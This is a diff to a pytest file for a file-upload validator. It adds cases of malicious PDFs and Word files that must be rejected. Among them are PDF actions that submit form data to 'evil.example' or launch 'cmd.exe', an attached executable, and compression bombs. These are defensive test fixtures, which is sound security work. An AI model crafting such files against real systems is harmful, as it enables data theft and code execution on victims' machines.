@@ -2,9 +2,11 @@
 
 import hashlib
 import io
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+import pikepdf
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 
@@ -83,6 +85,17 @@ REFUSED: list[tuple[str, Callable[[], bytes], str, int]] = [
     ("a.pdf", lambda: filemakers.scripted_pdf("next"), "file.script", 422),
     ("a.pdf", lambda: filemakers.scripted_pdf("xfa"), "file.script", 422),
     ("a.pdf", lambda: filemakers.pdf_with_attached(filemakers.scripted_pdf("names")), "file.script", 422),
+    ("a.pdf", lambda: filemakers.pdf_with_attached(filemakers.scripted_pdf("names"), Type=pikepdf.Name.EmbeddedFile), "file.script", 422),
+    ("a.pdf", lambda: filemakers.pdf_with_attached(b"MZ" + bytes(100)), "file.script", 422),
+    ("a.pdf", lambda: filemakers.pdf_with_action(S=pikepdf.Name.SubmitForm, F="https://evil.example"), "file.script", 422),
+    ("a.pdf", lambda: filemakers.pdf_with_action(S=pikepdf.Name.ImportData, F="x.fdf"), "file.script", 422),
+    ("a.pdf", lambda: filemakers.pdf_with_action(S=pikepdf.Name.Launch, F="cmd.exe"), "file.script", 422),
+    ("a.pdf", lambda: filemakers.pdf_with_action(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia), "file.script", 422),
+    ("a.pdf", filemakers.pdf_with_bare_catalogue, "file.script", 422),
+    ("a.pdf", filemakers.bomb_pdf, "file.damaged", 422),
+    ("a.docx", filemakers.broken_docx, "file.damaged", 422),
+    ("a.docx", lambda: filemakers.packed_docx(zipfile.ZIP_LZMA), "file.damaged", 422),
+    ("a.docx", lambda: filemakers.packed_docx(zipfile.ZIP_BZIP2), "file.damaged", 422),
     ("a.pdf", lambda: filemakers.pdf_with_attached(b"%PDF-" + bytes(40 * 2**20)), "file.bomb", 422),
     ("a.pdf", filemakers.encrypted_pdf, "file.locked", 422),
     ("a.pdf", lambda: filemakers.encrypted_pdf(user=""), "file.locked", 422),
